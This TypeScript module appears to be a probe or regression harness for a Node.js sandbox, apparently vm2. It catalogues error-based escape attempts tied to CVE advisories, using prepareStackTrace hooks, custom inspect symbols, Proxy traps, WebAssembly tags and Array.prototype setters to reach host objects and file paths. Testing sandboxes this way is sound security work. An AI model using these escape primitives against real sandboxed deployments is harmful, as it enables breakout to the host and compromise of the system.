/** Published ways out through errors: their stacks, what they carry, and who catches them. */
import { attempted } from './plunder.ts';
import { type BreakOut, type Loose, late, realm } from './probe.ts';
import { atTheEndOfTheStack, caught, hostFunction, hostThings, ofUnspeakable, thenable, unspeakable } from './reach.ts';

/** What a formatter of stacks is given, frame by frame. */
function framesSeen(act: () => unknown): unknown[] {
  const got: unknown[] = [];
  const errors = Error as Loose;
  const kept = errors.prepareStackTrace;
  attempted(() => {
    errors.prepareStackTrace = (_error: unknown, frames: Loose[]) => {
      got.push(frames);
      for (const frame of frames) {
        got.push(
          frame,
          attempted(() => frame.getThis()),
          attempted(() => frame.getFunction()),
        );
      }
      return '';
    };
  });
  attempted(act);
  attempted(() => {
    errors.prepareStackTrace = kept;
  });
  return got.filter((value) => value !== globalThis);
}

export const errors: readonly BreakOut[] = [
  {
    name: 'stack-overflow',
    advisory: 'CVE-2019-10761, issue 199',
    versions: '< 3.6.11',
    idea: 'Where the stack ends inside the bridge, the RangeError is the host’s',
    attempt: () => [
      ...atTheEndOfTheStack(() => hostFunction()({ length: 10 })),
      ...atTheEndOfTheStack(() => Object.getOwnPropertyDescriptor(globalThis, 'Math')),
      ...atTheEndOfTheStack(() => realm.Function('return 1')),
    ],
  },
  {
    name: 'errors-of-the-stack-formatter',
    advisory: 'CVE-2021-23555',
    versions: '< 3.9.6',
    idea: 'The platform makes errors of its own while it writes a stack: they are caught as they are',
    attempt: () => [ofUnspeakable(), caught(() => unspeakable().stack), caught(() => `${unspeakable()}`)],
  },
  {
    name: 'prepare-stack-trace',
    advisory: 'CVE-2022-36067',
    versions: '< 3.9.11',
    idea: 'Error is replaced by an object whose prepareStackTrace is given frames of the host, which tell their this',
    attempt() {
      const kept = realm.Error;
      const got = framesSeen(() => new Error('x').stack);
      attempted(() => {
        realm.Error = { prepareStackTrace: (_error: unknown, frames: Loose[]) => void got.push(...frames) };
        return hostFunction()();
      });
      realm.Error = kept;
      got.push(...framesSeen(() => caught(() => (null as Loose).x)));
      got.push(...framesSeen(() => caught(() => hostFunction()(Symbol('x')))));
      return got;
    },
  },
  {
    name: 'stack-of-an-error-nobody-awaits',
    advisory: 'CVE-2023-29017',
    versions: '< 3.9.15',
    idea: 'prepareStackTrace is called by the host when an error of a promise is not handled',
    attempt() {
      const errors = Error as Loose;
      attempted(() => {
        errors.prepareStackTrace = (error: unknown, frames: unknown[]) => void late.push(error, frames, ...frames);
      });
      return [
        caught(() => Promise.reject(new Error('nobody'))),
        caught(() => new Promise(() => unspeakable().stack)),
        caught(() => Promise.reject(unspeakable())),
      ];
    },
  },
  {
    name: 'name-of-the-caught',
    advisory: 'CVE-2023-29199',
    versions: '< 3.9.16',
    idea: 'The names that the rewriting of catch clauses uses are used by ourselves: one clause stays as it was',
    attempt() {
      const got: unknown[] = [];
      const $tmpname = {};
      try {
        ofUnspeakable();
        throw unspeakable();
      } catch ($tmpname) {
        got.push($tmpname);
        try {
          hostFunction()(Symbol('x'));
        } catch (a$tmpname) {
          const { constructor: made, ...others } = a$tmpname as Loose;
          got.push(made, others);
        }
      }
      return [...got, $tmpname];
    },
  },
  {
    name: 'prototype-trap-of-the-thrown',
    advisory: 'CVE-2023-30547',
    versions: '< 3.9.17',
    idea: 'A proxy is thrown whose getPrototypeOf trap overflows the stack while the thrown is made harmless',
    attempt() {
      const got: unknown[] = [];
      const bait = new Proxy(
        {},
        {
          getPrototypeOf() {
            const deep = (): never => deep();
            try {
              return deep();
            } catch (thrown) {
              got.push(thrown);
              throw thrown;
            }
          },
        },
      );
      try {
        throw bait;
      } catch (thrown) {
        got.push(thrown);
      }
      got.push(
        ...atTheEndOfTheStack(() =>
          caught(() => {
            throw bait;
          }),
        ),
      );
      return got.filter((value) => value !== bait);
    },
  },
  {
    name: 'options-of-inspection',
    advisory: 'CVE-2023-32313, GHSA-p5gc-c584-jj6v',
    versions: '≤ 3.9.17',
    idea: 'console.log prints with the host’s inspect, which calls our custom inspection with its options to change',
    attempt() {
      const got: unknown[] = [];
      const key = Symbol.for('nodejs.util.inspect.custom');
      const bait = {
        [key](...given: Loose[]) {
          got.push(...given);
          for (const options of given) attempted(() => (options.stylize = null));
          return '';
        },
      };
      attempted(() => realm.console.log(bait));
      attempted(() => realm.Buffer.prototype.inspect.call(bait, 0, {}));
      return got;
    },
  },
  {
    name: 'custom-inspection',
    advisory: 'CVE-2023-37903, issues 187, 268',
    versions: '≤ 3.9.19',
    idea: 'An object with nodejs.util.inspect.custom where the host inspects: our function is given the host’s inspect',
    attempt() {
      const got: unknown[] = [];
      const named = [
        Symbol.for('nodejs.util.inspect.custom'),
        ...hostThings().flatMap((thing) => Object.getOwnPropertySymbols(Object(thing))),
        ...Object.getOwnPropertySymbols(Object(attempted(() => realm.Buffer.prototype))),
      ];
      const bait: Loose = { toString: undefined };
      for (const key of named) {
        attempted(() => {
          bait[key] = (...given: unknown[]) => void got.push(...given);
        });
      }
      for (const act of [
        () => realm.WebAssembly.compileStreaming(bait),
        () => new realm.Buffer(bait),
        () => realm.Buffer.from(bait),
        () => realm.console.log(bait),
        () => new (realm.URL ?? Object)(bait),
      ]) {
        attempted(act);
      }
      return got;
    },
  },
  {
    name: 'disposed-together',
    advisory: 'CVE-2026-26332, GHSA-55hx-c926-fr95',
    versions: '≤ 3.10.4',
    idea: 'A DisposableStack puts an error of the host into a SuppressedError, which is one of ours and not looked into',
    attempt() {
      const disposables = new (realm.DisposableStack ?? class {})();
      attempted(() =>
        disposables.defer(() => {
          throw null;
        }),
      );
      attempted(() => disposables.defer(() => ofUnspeakable()));
      attempted(() =>
        disposables.defer(() => {
          throw thrownDeep();
        }),
      );
      const suppressed = caught(() => disposables.dispose()) as Loose;
      return [suppressed, attempted(() => suppressed.error), attempted(() => suppressed.suppressed)];
    },
  },
  {
    name: 'frames-with-paths',
    advisory: 'CVE-2026-44002, GHSA-v27g-jcqj-v8rw',
    versions: '≤ 3.10.5',
    idea: 'Frames of a stack tell files of the host',
    attempt() {
      const told: string[] = [];
      for (const frame of framesSeen(() => new Error('x').stack) as Loose[]) {
        for (const ask of ['getFileName', 'getEvalOrigin', 'getScriptNameOrSourceURL', 'toString']) {
          const text = attempted(() => String(frame[ask]()));
          if (text !== undefined) told.push(text);
        }
      }
      return pathsIn(told);
    },
  },
  {
    name: 'stack-written-by-the-host',
    advisory: 'CVE-2026-92936, GHSA-x6m4-chr9-cg97',
    versions: '3.11.0 – 3.11.6',
    idea: 'An error of the host brings its stack along, written with paths of the host',
    attempt() {
      const thrown = [
        caught(() => realm.eval('@@@ catch')),
        caught(() => realm.Function('@@@ catch')),
        caught(() => hostFunction()(Symbol('x'))),
        caught(() => hostFunction().alloc(-1)),
      ] as Loose[];
      return pathsIn(
        thrown.flatMap((error) => [
          attempted(() => String(error.stack)) ?? '',
          attempted(() => String(error.message)) ?? '',
        ]),
      );
    },
  },
  {
    name: 'formatter-writes-to-an-array',
    advisory: 'GHSA-q3fm-4wcw-g57x',
    versions: '≤ 3.11.3',
    idea: 'The formatter of stacks collects lines in an array: a setter on Array.prototype is told them, and join is ours',
    attempt() {
      const got: unknown[] = [];
      for (const index of [0, 1, 2]) {
        attempted(() =>
          Object.defineProperty(Array.prototype, index, { configurable: true, set: (line) => void got.push(line) }),
        );
      }
      attempted(() => {
        Array.prototype.join = function () {
          got.push(this);
          return '';
        };
      });
      attempted(() => new Error('x').stack);
      for (const index of [0, 1, 2]) attempted(() => Reflect.deleteProperty(Array.prototype, index));
      return [...got, ...pathsIn(got.map((value) => String(value)))];
    },
  },
  {
    name: 'cause-of-an-error',
    advisory: 'CVE-2026-47686, GHSA-m283-3h24-438v',
    versions: '≤ 3.11.5',
    idea: 'An error of the host carries a cause, or something else by another name, or behind its prototype',
    attempt: () =>
      [...hostThings(), ...atTheEndOfTheStack(() => realm.Function('x'))].flatMap((error) => [
        attempted(() => error.cause),
        attempted(() => error.detail),
        ...(attempted(() => Reflect.ownKeys(Object(error)).map((key) => attempted(() => error[key]))) ?? []),
      ]),
  },
  {
    name: 'seen-twice',
    advisory: 'CVE-2026-92934, GHSA-x965-fc75-jpqh',
    versions: '≤ 3.11.7',
    idea: 'An AggregateError that holds itself is made harmless once; the second time it is handed on as it is',
    attempt() {
      const inner = atTheEndOfTheStack(() => realm.Function('x'));
      const all: Loose = new AggregateError([], 'all');
      attempted(() => {
        all.errors = [all, all, ...inner];
        all.cause = all;
      });
      const thrown = caught(() => {
        throw all;
      }) as Loose;
      return [thrown, ...(attempted(() => thrown.errors) ?? []), attempted(() => thrown.errors[0].errors[2])].filter(
        (value) => value !== all,
      );
    },
  },
  {
    name: 'caught-by-webassembly',
    advisory: 'CVE-2026-26956, GHSA-ffh4-j6h5-pg66',
    versions: '3.10.4',
    idea: 'WebAssembly catches what a call throws by a tag for JavaScript’s errors: no catch clause, nothing made harmless',
    attempt: () => [
      realm.WebAssembly,
      attempted(() => realm.WebAssembly.JSTag),
      attempted(() => new realm.WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
      attempted(() => Object.getPrototypeOf(globalThis).WebAssembly),
    ],
  },
  {
    name: 'thrown-at-the-resolver',
    advisory: 'vm2 catalogue, 4',
    versions: '≤ 3.10.1',
    idea: 'What a thenable throws inside a resolver is caught by the engine, and given to the next handler',
    attempt: () => [
      caught(() => new Promise((resolve) => resolve(thenable(() => unspeakable().stack)))),
      caught(() => Promise.resolve(thenable(() => thrownDeep()))),
    ],
  },
];

function thrownDeep(): unknown {
  const deep = (): never => deep();
  return caught(deep);
}

/** Paths of files of the host among texts; sources of the sandbox have none. */
function pathsIn(texts: readonly string[]): unknown[] {
  const telling = texts.filter((text) => /(^|[\s(])(\/|[A-Z]:\\|file:|node:)[^\s]*\w/.test(text));
  return telling.map((text) => ({ told: text })).filter(({ told }) => told !== '');
}
